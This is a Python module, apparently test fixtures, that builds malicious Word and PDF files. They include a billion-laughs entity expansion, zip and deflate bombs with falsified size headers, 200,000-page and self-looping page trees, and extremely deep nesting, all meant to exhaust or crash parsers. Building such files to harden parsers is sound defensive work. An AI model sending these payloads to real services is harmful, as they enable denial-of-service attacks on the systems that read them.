"""Files that are made to harm whoever reads them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def word(document: str) -> bytes:
    """Return a Word file with this XML as its text."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELATIONS)
        archive.writestr("word/document.xml", document)
    return written.getvalue()


def billion_laughs() -> bytes:
    """Return a Word file whose text unfolds to 10 GB by entities that name each other ten times."""
    entities = ['<!ENTITY l0 "hahahahahaha">']
    entities += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return word(
        f'<?xml version="1.0"?><!DOCTYPE d [{"".join(entities)}]>'
        f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'
    )


def deep_word(levels: int = 100_000) -> bytes:
    """Return a Word file with tables in tables in tables."""
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return word(
        f'<?xml version="1.0"?><w:document xmlns:w="{_W}"><w:body>{opened * levels}'
        f"<w:p><w:r><w:t>tief</w:t></w:r></w:p>{closed * levels}</w:body></w:document>"
    )


def zeros(megabytes: int) -> bytes:
    """Return so many zeros as a raw deflate stream, made of one piece that stands for itself."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * megabytes + packer.flush(zlib.Z_FINISH)


def swelling_word(megabytes: int = 10_000, told: int = 1_000) -> bytes:
    """Return a Word file of some megabytes that unpacks to `megabytes` and says that it is small."""
    packed, name = zeros(megabytes), b"word/document.xml"
    sizes = struct.pack("<IIIHH", 0, len(packed), told, len(name), 0)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0x21) + sizes + name
    entry = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0x21) + sizes
    entry += struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(local) + len(packed), 0)
    return local + packed + entry + end


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF file with these objects; the first is its catalogue."""
    written, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(written))
        written += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    written += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    return bytes(written + b"startxref\n%d\n%%%%EOF\n" % start)


_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"


def swelling_pdf(megabytes: int = 10_000) -> bytes:
    """Return a PDF file of 30 kB whose page is packed twice and unpacks to `megabytes`."""
    twice = zlib.compress(b"\x78\x9c" + zeros(megabytes))
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 500] /Resources << >> /Contents 4 0 R >>"
    stream = b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(twice), filters, twice)
    return pdf([_CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream])


def many_pages(count: int = 200_000) -> bytes:
    """Return a PDF file with so many empty pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return pdf([_CATALOGUE, b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count), *[page] * count])


def circling_pages() -> bytes:
    """Return a PDF file whose page tree holds itself."""
    return pdf([_CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"])


def deep_pdf(levels: int = 200_000) -> bytes:
    """Return a PDF file with lists in lists in lists."""
    page = b"<< /Type /Page /Parent 2 0 R /Deep %b%b >>" % (b"[" * levels, b"]" * levels)
    return pdf([_CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page])
